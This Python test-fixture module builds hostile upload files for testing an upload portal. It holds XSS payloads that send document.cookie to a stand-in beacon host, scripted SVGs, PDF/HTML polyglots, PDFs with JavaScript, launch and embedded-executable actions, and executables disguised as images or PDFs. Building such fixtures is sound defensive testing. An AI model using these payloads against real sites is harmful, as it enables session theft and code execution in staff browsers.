"""Hostile uploads, built the way an attacker would: each one tries to run a script in a staff member's browser.

Every payload announces itself if it ever runs: it sets ``window.name`` and ``document.title`` to ``PWNED`` and
fetches ``beacon`` (a stand-in server the browser test starts, which must stay silent).
"""

import io

import pikepdf
from PIL import Image


def script(beacon: str) -> str:
    return (f"window.name='PWNED';document.title='PWNED';fetch('{beacon}?'+document.cookie);"
            f"new Image().src='{beacon}img';")


def html_page(beacon: str) -> bytes:
    return f"<!doctype html><html><body><h1>SK</h1><script>{script(beacon)}</script></body></html>".encode()


def svg_with_script(beacon: str) -> bytes:
    return (f'<svg xmlns="http://www.w3.org/2000/svg" onload="{script(beacon)}" width="10" height="10">'
            f"<script>{script(beacon)}</script></svg>").encode()


def real_pdf(text: str = "Scan") -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def polyglot_pdf_html(beacon: str) -> bytes:
    """Begins like a PDF, is really a web page: '%PDF-' then markup a browser would run if told it is HTML."""
    return b"%PDF-1.7\n" + html_page(beacon)


def polyglot_valid_pdf_with_html_tail(beacon: str) -> bytes:
    """A PDF any reader opens, with a web page glued after %%EOF."""
    return real_pdf() + html_page(beacon)


def _pdf_with(build) -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    build(pdf)
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def pdf_with_javascript(beacon: str) -> bytes:
    def build(pdf):
        action = pdf.make_indirect(pikepdf.Dictionary(
            Type=pikepdf.Name.Action, S=pikepdf.Name.JavaScript,
            JS=pikepdf.String(f"app.launchURL('{beacon}pdf', true); this.submitForm('{beacon}form');")))
        pdf.Root.OpenAction = action
    return _pdf_with(build)


def pdf_with_direct_javascript(beacon: str) -> bytes:
    """The script as a direct dictionary inside the catalogue (not an object of its own)."""
    def build(pdf):
        pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript,
                                                 JS=pikepdf.String(f"app.launchURL('{beacon}direct')"))
        pdf.Root.Names = pikepdf.Dictionary(Dests=pikepdf.Dictionary())
    return _pdf_with(build)


def pdf_with_launch() -> bytes:
    def build(pdf):
        pdf.Root.OpenAction = pdf.make_indirect(pikepdf.Dictionary(
            S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"), NewWindow=True))
    return _pdf_with(build)


def pdf_with_page_action(beacon: str) -> bytes:
    def build(pdf):
        pdf.pages[0].obj.AA = pikepdf.Dictionary(O=pikepdf.Dictionary(
            S=pikepdf.Name.JavaScript, JS=pikepdf.String(f"app.launchURL('{beacon}aa')")))
    return _pdf_with(build)


def pdf_with_embedded_file() -> bytes:
    def build(pdf):
        pdf.attachments["payload.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00 payload")
    return _pdf_with(build)


def exe() -> bytes:
    return b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00This program cannot be run in DOS mode."


def elf() -> bytes:
    return b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 64


def jpeg_header_then_html(beacon: str) -> bytes:
    return b"\xff\xd8\xff\xe0" + html_page(beacon)


def real_png() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (40, 30), (200, 30, 30)).save(out, "PNG")
    return out.getvalue()


def real_jpeg() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (40, 30), (30, 30, 200)).save(out, "JPEG")
    return out.getvalue()


def refused(beacon: str) -> list[tuple[str, bytes, str]]:
    """(file name, bytes, what it is) for each file the portal must refuse."""
    return [
        ("surat.html", html_page(beacon), "HTML page"),
        ("foto.svg", svg_with_script(beacon), "SVG with script"),
        ("foto2.png", svg_with_script(beacon), "SVG named .png"),
        ("sk.pdf", polyglot_pdf_html(beacon), "polyglot %PDF-/HTML"),
        ("sk-tail.html", polyglot_valid_pdf_with_html_tail(beacon), "valid PDF with a web page appended"),
        ("skp.pdf", pdf_with_javascript(beacon), "PDF with JavaScript"),
        ("skp2.pdf", pdf_with_direct_javascript(beacon), "PDF with JavaScript as a direct object"),
        ("launch.pdf", pdf_with_launch(), "PDF with a launch action"),
        ("halaman.pdf", pdf_with_page_action(beacon), "PDF with a page-open action"),
        ("lampiran.pdf", pdf_with_embedded_file(), "PDF with an embedded file"),
        ("scan.pdf", exe(), "Windows executable named .pdf"),
        ("foto.jpg", elf(), "Linux executable named .jpg"),
        ("pas.jpg", jpeg_header_then_html(beacon), "JPEG header then HTML"),
    ]
